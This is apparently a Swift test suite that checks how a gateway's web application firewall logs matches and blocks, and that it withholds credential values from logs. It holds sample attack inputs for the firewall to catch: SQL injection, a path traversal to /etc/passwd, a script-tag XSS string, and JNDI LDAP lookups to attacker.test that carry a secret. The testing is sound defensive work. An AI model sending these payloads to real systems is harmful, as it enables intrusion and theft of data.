@testable import Gateway
import Logging
import Synchronization
import Testing

@Suite("WAF log lines")
struct WafLoggingTests {
    /// Keeps every line logged through it.
    final class Recorder: Sendable {
        let lines = Mutex<[(message: String, metadata: Logger.Metadata)]>([])
    }

    struct RecordingHandler: LogHandler {
        let recorder: Recorder
        var metadata: Logger.Metadata = [:]
        var logLevel: Logger.Level = .trace

        subscript(metadataKey key: String) -> Logger.Metadata.Value? {
            get { metadata[key] }
            set { metadata[key] = newValue }
        }

        func log(event: LogEvent) {
            recorder.lines.withLock { $0.append((event.message.description, event.metadata ?? [:])) }
        }
    }

    @Test func eachMatchIsOneLineAndABlockIsAnother() throws {
        let recorder = Recorder()
        let logger = Logger(label: "test") { _ in RecordingHandler(recorder: recorder) }
        let waf = try WafCorpus.shippedWAF()
        let verdict = waf.inspect(InspectedRequest(method: "GET", rawPath: "/api/v1/tickets", rawQuery: "q=%27%20or%201%3D1--&f=../../etc/passwd"))
        verdict.log(to: logger, requestID: "req-1", tenant: "acme", clientIP: "203.0.113.7")
        let lines = recorder.lines.withLock { $0 }
        #expect(lines.map(\.message) == Array(repeating: "waf.match", count: verdict.matches.count) + ["waf.blocked"])
        let first = try #require(lines.first?.metadata)
        #expect(first["waf.rule"] == "\(verdict.matches[0].ruleID)")
        #expect(first["waf.target"] != nil)
        #expect(first["waf.fragment"] != nil)
        #expect(first["request.id"] == "req-1")
        #expect(lines.last?.metadata["waf.score"] == "\(verdict.score)")
    }

    @Test func aMatchInACredentialKeepsItsRuleAndTargetButNeverItsValue() throws {
        let recorder = Recorder()
        let logger = Logger(label: "test") { _ in RecordingHandler(recorder: recorder) }
        let secret = "tokenvalue-5f2a9c"
        let verdict = try WafCorpus.shippedWAF().inspect(InspectedRequest(
            method: "GET", rawPath: "/api/v1/tickets", rawQuery: nil,
            headers: [("Authorization", "Bearer ${jndi:ldap://attacker.test/\(secret)}"), ("Cookie", "sid=${jndi:ldap://attacker.test/\(secret)}")]
        ))
        #expect(verdict.blocked)
        // Which of the two the shipped rules match may change with the rules; every match in
        // either must be withheld, and the secret must appear in no log line.
        let credentialMatches = verdict.matches.filter { $0.target == "header:authorization" || $0.target == "header:cookie" || $0.target.hasPrefix("cookie:") }
        #expect(!credentialMatches.isEmpty)
        #expect(credentialMatches.allSatisfy { $0.fragment == WAFMatch.withheld })
        verdict.log(to: logger, requestID: "req-2", tenant: "acme", clientIP: nil)
        let logged = recorder.lines.withLock { $0 }.map { "\($0.message) \($0.metadata)" }.joined(separator: "\n")
        #expect(logged.contains("header:authorization"))
        #expect(!logged.contains(secret))
    }

    /// A sign-in body that cannot be taken apart is inspected whole: a password in it that a rule
    /// matches is not written into the log or the audit record.
    @Test func aMalformedBodyIsInspectedWholeAndItsFragmentWithheld() throws {
        let password = "<script>alert(1)</script>-violet-7f3a"
        let verdict = try WafCorpus.shippedWAF().inspect(InspectedRequest(
            method: "POST", rawPath: "/auth/password", headers: [("Content-Type", "application/json")],
            body: Array(#"{"email":"ada@acme.test","password":"\#(password)""#.utf8)[...]
        ))
        #expect(verdict.blocked)
        let whole = verdict.matches.filter { $0.target == "json:(body)" }
        #expect(!whole.isEmpty)
        #expect(whole.allSatisfy { $0.fragment == WAFMatch.withheld })
        #expect(!verdict.matches.contains { $0.fragment.contains("violet") || $0.fragment.contains("script") })
    }

    @Test func credentialTargetsAreRecognised() {
        for target in ["header:authorization", "header:cookie", "header:x-api-key", "cookie:sid", "json:auth.refresh_token", "form:client_secret", "query:password",
                       "json:(body)"] {
            #expect(WAFMatch.holdsCredential(target), "\(target)")
        }
        for target in ["path", "query:q", "json:message.body", "header:user-agent", "header-name", "method"] {
            #expect(!WAFMatch.holdsCredential(target), "\(target)")
        }
    }

    @Test func cleanRequestsLogNothing() throws {
        let recorder = Recorder()
        let logger = Logger(label: "test") { _ in RecordingHandler(recorder: recorder) }
        try WafCorpus.shippedWAF().inspect(WAFBenchmark.benignGet).log(to: logger, requestID: "r", tenant: nil, clientIP: nil)
        #expect(recorder.lines.withLock { $0.isEmpty })
    }
}
